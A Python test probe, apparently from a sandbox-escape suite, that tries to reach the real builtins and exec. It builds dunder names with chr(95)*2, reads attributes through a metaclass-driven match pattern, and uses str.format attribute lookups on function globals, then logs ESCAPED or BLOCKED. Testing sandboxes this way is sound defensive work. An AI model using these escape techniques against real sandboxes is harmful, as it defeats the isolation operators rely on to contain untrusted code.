# id: fmt-subclass-super
# technique: the original format of str through super() and unbound descriptors
# layer: python
# goal: capability
# success_marker: ESCAPED


U = chr(95) * 2


def prove_globals(ctx, id, g):
    """a function's globals lead to the real builtins"""
    b = g[U + 'builtins' + U]
    run = b['exec'] if isinstance(b, dict) else getattr(b, 'exec')
    ns = {}
    run('x = 6 * 7', ns)
    if ns['x'] == 42:
        ctx.log.info('ESCAPED ' + id + ': real builtins')


def peek(obj, name):
    """reads any attribute through a class pattern whose names are computed"""
    meta = type('Meta', (type,), {U + 'instancecheck' + U: lambda cls, o: True})
    any_class = meta('Any', (), {U + 'match_args' + U: (name,)})
    match obj:
        case any_class(found):
            return found
    raise ValueError('nothing under ' + name)


import collections
import json


class T(collections.UserString, str):
    def go(self, x):
        return super(collections.UserString, self).format(x)


def attempt(ctx):
    F = peek(str, U + 'dict' + U)['format']
    for call in (lambda: F('{0.dumps.__globals__}', json), lambda: str.__getattribute__('{0.dumps.__globals__}', 'format')(json)):
        try:
            text = call()
        except Exception:
            continue
        ctx.log.info('ESCAPED fmt-subclass-super: ' + text[:60])
    raise ValueError('checked everywhere')


def tick(ctx):
    try:
        attempt(ctx)
    except Exception as e:
        ctx.log.info('BLOCKED fmt-subclass-super: ' + repr(e)[:160])
    ctx.log.info('DONE fmt-subclass-super')
